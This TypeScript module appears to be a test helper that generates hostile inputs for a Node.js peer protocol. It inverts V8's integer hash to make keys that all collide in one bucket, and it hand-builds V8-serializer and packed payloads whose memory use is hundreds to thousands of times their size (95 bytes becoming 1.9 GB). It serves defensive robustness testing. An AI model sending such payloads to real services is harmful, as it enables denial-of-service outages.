// Values a hostile peer sends: small integers (V8 Smis) whose unseeded V8 hash
// (ComputeUnseededHash) ends in the same `bits` bits, so that in a Map or Set they all land in
// one bucket (the hash is a bijection on uint32, so each key is the inverse of a chosen hash);
// and v8 serializer payloads written by hand (building the colliding Set to serialize it would
// cost the same n^2 as reading it).

const M = 2n ** 32n

function inverse(a: bigint): bigint {
  let [t, nt, r, nr] = [0n, 1n, M, a]
  while (nr !== 0n) {
    const q = r / nr
    ;[t, nt] = [nt, t - q * nt]
    ;[r, nr] = [nr, r - q * nr]
  }
  return ((t % M) + M) % M
}

const I32767 = inverse(32767n)
const I5 = inverse(5n)
const I2057 = inverse(2057n)

function times(x: number, k: bigint): number {
  return Number((BigInt(x >>> 0) * k) % M) >>> 0
}

function unXorShiftRight(y: number, s: number): number {
  let x = y >>> 0
  for (let k = s; k < 32; k += s) x = (x ^ (y >>> k)) >>> 0
  return x
}

/** The uint32 whose V8 unseeded hash is `h`. */
function unhash(h: number): number {
  let x = unXorShiftRight(h >>> 0, 16)
  x = times(x, I2057)
  x = unXorShiftRight(x, 4)
  x = times(x, I5)
  x = unXorShiftRight(x, 12)
  return times((x + 1) >>> 0, I32767)
}

/** `n` non-negative int32 keys whose hashes share their low `bits` bits. */
export function collidingIntegers(n: number, bits = 16): number[] {
  const out: number[] = []
  for (let i = 0; out.length < n; i++) {
    const k = unhash(((i << bits) | (0x1234 & ((1 << bits) - 1))) >>> 0) | 0
    if (k >= 0) out.push(k)
  }
  return out
}

/** Appends `value` (a uint32) as a varint. */
function varint(value: number, out: number[]): void {
  let v = value
  do {
    let byte = v & 0x7f
    v = Math.floor(v / 128)
    if (v !== 0) byte |= 0x80
    out.push(byte)
  } while (v !== 0)
}

/** `v8.serialize(new Set(keys))` for int32 `keys` (version 15: 0xff 0x0f, `'`, `I` zigzag varints, `,` count). */
export function v8SetOf(keys: number[]): Buffer {
  const out = [0xff, 0x0f, 0x27]
  for (const k of keys) {
    out.push(0x49)
    varint(k >= 0 ? 2 * k : -2 * k - 1, out)
  }
  out.push(0x2c)
  varint(keys.length, out)
  return Buffer.from(out)
}

/** `v8.serialize(Array.from({ length: n }, () => new Set()))`: 3 bytes on the wire, ~170 on the heap each. */
export function v8EmptySets(n: number): Buffer {
  const length: number[] = []
  varint(n, length)
  const items = Buffer.alloc(3 * n)
  for (let i = 0; i < n; i++) items.set([0x27, 0x2c, 0], 3 * i) // ' , 0: an empty Set
  return Buffer.concat([Buffer.from([0xff, 0x0f, 0x41, ...length]), items, Buffer.from([0x24, 0, ...length])])
}

/** A v8 payload of a dense array holding `items` (each already v8 bytes). */
function v8ArrayOf(items: number[][]): Buffer {
  const length: number[] = []
  varint(items.length, length)
  return Buffer.from([0xff, 0x0f, 0x41, ...length, ...items.flat(), 0x24, 0, ...length])
}

/**
 * `count` empty sparse arrays of `length` (`a`, 6 to 8 bytes each), in a dense array.
 * V8 gives each a store of `length` slots when `length` is 2^25 or less:
 * 8 of 30,000,000 are 95 bytes on the wire and 1.9 GB on the heap.
 */
export function v8SparseArrays(count: number, length: number): Buffer {
  const sparse = [0x61]
  varint(length, sparse)
  sparse.push(0x40, 0)
  varint(length, sparse)
  return v8ArrayOf(Array.from({ length: count }, () => sparse))
}

/** How a hostile peer writes an index key: as a number or as a string that names it. */
export type IndexKeyForm = 'int32' | 'uint32' | 'double' | 'latin1' | 'two-byte' | 'utf8'

/**
 * `count` objects whose keys are the array indices `keys`, each set to
 * `undefined`, the keys written in `form`, in a dense array. V8 stores
 * index keys in a fast element store while each is less than 1,024 past its
 * capacity: `{1023, 2574}` takes about 31 KB for 13 bytes.
 */
export function v8IndexKeyObjects(count: number, keys: number[], form: IndexKeyForm = 'uint32'): Buffer {
  const object = [0x6f]
  for (const key of keys) {
    if (form === 'int32') {
      object.push(0x49)
      varint(2 * key, object)
    } else if (form === 'uint32') {
      object.push(0x55)
      varint(key, object)
    } else if (form === 'double') {
      const bytes = Buffer.alloc(8)
      bytes.writeDoubleLE(key)
      object.push(0x4e, ...bytes)
    } else {
      const text = String(key)
      const bytes = form === 'two-byte' ? Buffer.from(text, 'utf16le') : Buffer.from(text, 'latin1')
      object.push(form === 'latin1' ? 0x22 : form === 'two-byte' ? 0x63 : 0x53)
      varint(bytes.length, object)
      object.push(...bytes)
    }
    object.push(0x5f)
  }
  object.push(0x7b)
  varint(keys.length, object)
  return v8ArrayOf(Array.from({ length: count }, () => object))
}

/**
 * `count` objects whose keys are the array indices `keys`, each set to
 * `null`, in the packed form (codec tag 8, without the tag byte), written
 * byte by byte as a hostile peer would. `{1023, 2574}` is 25 bytes a copy
 * and takes about 31 KB once revived: 20,000 copies (380 KB) took 624 MB.
 */
export function packedIndexKeyObjects(count: number, keys: number[]): Buffer {
  const object = [10, ...u32(keys.length)]
  for (const key of keys) {
    const text = Buffer.from(String(key), 'latin1')
    object.push(6, text.length, ...text, 1)
  }
  const out = Buffer.alloc(5 + count * object.length)
  out[0] = 9
  out.writeUInt32LE(count, 1)
  for (let i = 0; i < count; i++) out.set(object, 5 + i * object.length)
  return out
}

function u32(n: number): number[] {
  return [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, n >>> 24]
}

/**
 * JSON text of `count` copies of `item` in an array: `[{},{},…]` (3 bytes a
 * copy) takes 64 bytes of heap each once parsed, 21 per byte.
 */
export function jsonArrayOf(count: number, item: string): Buffer {
  return Buffer.from(`[${Array.from({ length: count }, () => item).join(',')}]`, 'latin1')
}
